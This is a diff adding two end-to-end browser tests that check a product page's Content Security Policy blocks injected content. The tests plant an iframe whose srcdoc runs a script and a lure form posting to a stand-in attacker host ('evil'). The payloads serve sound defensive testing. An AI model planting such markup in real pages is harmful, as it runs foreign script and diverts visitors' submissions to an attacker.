@@ -79,6 +79,32 @@ test.describe('what somebody has put into a page does not run:', () => {
     expect(await wasAttacked(page)).toBe(false)
   })
 
+  /** What the browser says about a script of a frame or about leaving the page, of which the page itself hears nothing. */
+  const blockedFor = (page: Page, directive: RegExp) =>
+    page.waitForEvent(
+      'console',
+      (message) => /Content Security Policy/.test(message.text()) && directive.test(message.text()),
+    )
+
+  test('a frame with a page of its own', async ({ page, product }) => {
+    const blocked = blockedFor(page, /script-src/)
+    await openWith(page, `/products/${product.slug}`, '<iframe srcdoc="<script>top.attacked=1</script>"></iframe>')
+    await blocked
+    expect(await wasAttacked(page)).toBe(false)
+  })
+
+  test('a form that sends elsewhere', async ({ page, product }) => {
+    const planted = `<form action="${evil}/" method="post"><button>A free kettle</button></form>`
+    await page.route('**/_next/static/**/*.js*', (route) => route.abort())
+    await openWith(page, `/products/${product.slug}`, planted)
+    const sent: string[] = []
+    page.on('request', (request) => sent.push(request.url()))
+    const blocked = blockedFor(page, /form-action/)
+    await page.getByRole('button', { name: 'A free kettle' }).click({ noWaitAfter: true })
+    await blocked
+    expect(sent.filter((url) => url.startsWith(evil))).toEqual([])
+  })
+
   test('text as a script, and a question to another site, also when one of our scripts wanted it', async ({
     page,
     product,
